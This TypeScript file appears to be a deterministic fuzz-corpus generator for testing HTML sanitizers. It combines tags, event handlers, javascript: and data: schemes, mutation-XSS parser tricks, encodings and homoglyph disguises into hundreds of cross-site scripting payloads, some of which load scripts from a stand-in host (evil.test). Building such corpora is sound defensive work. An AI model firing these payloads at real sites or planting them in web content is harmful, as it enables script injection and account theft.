// Strings that would run a script somewhere if anybody took them for markup.
// They are made here, from building blocks, the same ones every time.

/** What would be run, and be seen: the hooks of the journey hear all of it. */
const ACTS = [
  'xss(1)', 'alert(1)', 'alert`1`', "top['al'+'ert'](1)", 'window["\\x61lert"](1)', '\\u0061lert(1)', 'setTimeout("xss(1)")',
  'Function("xss(1)")()', '[1].map(alert)', "import('data:text/javascript,xss(1)')", "location='javascript:xss(1)'", 'parent.xss(1)',
]
const TAGS = [
  'img', 'svg', 'body', 'details open', 'video', 'audio', 'iframe', 'input autofocus', 'select autofocus', 'textarea autofocus', 'marquee', 'object',
  'embed', 'a', 'p', 'table', 'td', 'h2', 'style', 'link rel=stylesheet', 'math', 'button', 'form', 'x tabindex=1', 'use', 'animate', 'set', 'frameset',
  'image', 'isindex', 'keygen autofocus', 'source', 'track', 'blockquote', 'li', 'dialog open', 'base', 'meta http-equiv=refresh',
]
const EVENTS = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onfocusin', 'ontoggle', 'onpointerenter', 'onanimationstart', 'onanimationend',
  'ontransitionend', 'onbegin', 'onend', 'onstart', 'onfinish', 'onloadstart', 'onpageshow', 'onscroll', 'onwheel', 'onbeforetoggle', 'ONERROR', 'oNlOaD',
]
const GAPS = [' ', '/', '\t', '\n', '\f', '\r', ' / ', '" ', "' ", '\u00a0', '/x/', ' x=">" ']
const QUOTES: [string, string][] = [['', ''], ['"', '"'], ["'", "'"], ['`', '`'], ['"', ''], ['&quot;', '&quot;']]
const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', 'javascript&Tab;:', 'java&NewLine;script:', 'javascript&colon;', '&#106;avascript:',
  '&#x6A;avascript&#x3a;', '&#0000106avascript:', ' javascript:', '\u0001javascript:', '\u00a0javascript:', 'vbscript:', 'data:text/html,',
  'data:text/html;base64,', 'data:image/svg+xml,', 'javascript://%0a', 'javascript:%0a', 'jav\u0430script:', 'JAVA\u017fCRIPT:', 'feed:javascript:',
  'view-source:javascript:', 'http:javascript:', '//evil.test/', '\\\\evil.test\\', 'https://evil.test/#', 'mailto:javascript:',
]
const LINKS: [string, string][] = [
  ['a', 'href'], ['a', 'xlink:href'], ['iframe', 'src'], ['iframe', 'srcdoc'], ['object', 'data'], ['embed', 'src'], ['form', 'action'],
  ['button form=x', 'formaction'], ['img', 'src'], ['img', 'srcset'], ['video', 'poster'], ['body', 'background'], ['table', 'background'], ['link', 'href'],
  ['base', 'href'], ['area', 'href'], ['math', 'href'], ['svg><a', 'xlink:href'], ['svg><use', 'href'], ['svg><animate attributeName=href', 'values'],
  ['svg><set attributeName=href', 'to'], ['blockquote', 'cite'], ['a', 'ping'], ['td', 'background'],
]
const STYLES = [
  'background:url(javascript:ACT)', 'width:expression(ACT)', '-moz-binding:url(//evil.test/x)', 'behavior:url(#default#time2)', "x:\\65xpression(ACT)",
  'background:url("data:text/html,<script>ACT</script>")', 'position:fixed;inset:0;z-index:9999', "animation:x onanimationstart=ACT", "@import '//evil.test/x'",
]
/** What parsers disagree about, so that clean markup becomes other markup when it is read again. */
const SHAPES = [
  'ONE', '"><ONE', "'>ONE", '</p>ONE', '</script>ONE', '</title>ONE', '</textarea>ONE', '--><ONE', '<!--ONE-->', '<!--><ONE-->', '<!--!>ONE', '<![CDATA[ONE]]>',
  '<?xml ONE?>', '<title>ONE</title>', '<textarea>ONE', '<xmp>ONE</xmp>', '<plaintext>ONE', '<noembed>ONE</noembed>', '<noframes>ONE</noframes>',
  '<noscript><p title="</noscript>ONE">', '<template>ONE</template>', '<style><!--</style>ONE--></style>', '<style></style x>ONE', '<select><style></select>ONE',
  '<math><mtext><table><mglyph><style><!--</style>ONE', '<math><mi><table><style><a title="</style>ONE">', '<svg></p><style><a id="</style>ONE">',
  '<svg><foreignObject><style><a title="</style>ONE">', '<svg><desc><style>ONE</style>', '<form><math><mtext></form><form><mglyph><style></math>ONE',
  '<math><annotation-xml encoding="text/html"><style>ONE', '<table><td>ONE', '<table>ONE</table>', '<li><li>ONE', '<a href="ONE', '<p title="ONE">', '<b><p></b>ONE</p>',
  '<h1><table><h1>ONE', '<script>ACT</script>', '<scr<script>ipt>ACT</scr</script>ipt>', '<\u017fcript>ACT</\u017fcript>', '<ScRiPt\n>ACT</sCrIpT\t>',
  '<script/x>ACT</script>', '<script src=//evil.test/x></script>', '<svg><script>ACT</script>', '<svg><script href="data:text/javascript,ACT"/>',
  '<math><script>ACT</script>', '\u0441\u0441\u044b\u043b\u043a\u0430 ONE', '<\u0441script>ACT</\u0441script>', '{{constructor.constructor("ACT")()}}', '${ACT}', '#{ACT}', '<%=ACT%>',
  '[x](javascript:ACT)', '![x](x"onerror="ACT)', ']]>ONE', '\\"-ACT-\\"', "';ACT;'", '";ACT;//', '`;ACT;`', '\u2028ACT\u2029', '<p>ONE', '<a>ONE</a>', 'ONEONE',
]

type Disguise = (s: string) => string

const each = (s: string, fn: (c: string) => string) => [...s].map(fn).join('')
const DISGUISES: Disguise[] = [
  (s) => s, (s) => s, (s) => s, (s) => s, (s) => s.toUpperCase().replaceAll('XSS(1)', 'xss(1)').replaceAll('ALERT', 'alert'),
  (s) => each(s, (c) => `&#${c.codePointAt(0) ?? 0};`), (s) => each(s, (c) => `&#x${(c.codePointAt(0) ?? 0).toString(16)}`), (s) => encodeURIComponent(s),
  (s) => s.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), (s) => s.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'), (s) => s.replaceAll('<', '\\x3c'),
  (s) => s.replaceAll('<', '\\u003c'), (s) => s.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'), (s) => s.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (s) => s.replaceAll('<', '<\u200b'), (s) => s.replaceAll('<', '<<'), (s) => s.replaceAll('>', ''), (s) => s.replaceAll('=', ' = '), (s) => `\ufeff${s}`, (s) => s + s,
  (s) => s.replaceAll('on', '\u043en'), (s) => s.replaceAll('k', '\u212a').replaceAll('s', '\u017f'),
]

// Numbers that are the same every time (mulberry32).
function numbers(seed: number): (below: number) => number {
  let a = seed
  return (below) => {
    a = (a + 0x6d2b79f5) | 0
    let t = Math.imul(a ^ (a >>> 15), 1 | a)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) % below
  }
}

/** n strings, no two the same, each shorter than 500 characters. */
export function corpus(n: number): string[] {
  const below = numbers(20260101)
  const one = <T>(of: readonly T[]): T => of[below(of.length)] as T
  const found = new Set<string>()
  while (found.size < n) {
    const act = one(ACTS)
    const [open, close] = one(QUOTES)
    const [tag, attribute] = one(LINKS)
    const bodies = [
      `<${one(TAGS)}${one(GAPS)}${one(EVENTS)}=${open}${act}${close} src=x>`,
      `<${one(TAGS)}${one(GAPS)}src=x${one(GAPS)}${one(EVENTS)}=${open}${act}${close}>x`,
      `<${tag}${one(GAPS)}${attribute}=${open}${one(SCHEMES)}${act}${close}>x</${tag.split(/[ >]/)[0] ?? ''}>`,
      `<${one(['p', 'div', 'td', 'a', 'h2', 'svg', 'x'])} style=${open || '"'}${one(STYLES).replaceAll('ACT', act)}${close || '"'}>x`,
    ]
    const s = one(DISGUISES)(one(SHAPES).replaceAll('ONE', one(bodies)).replaceAll('ACT', act))
    if (s.length < 500) found.add(s)
  }
  return [...found]
}
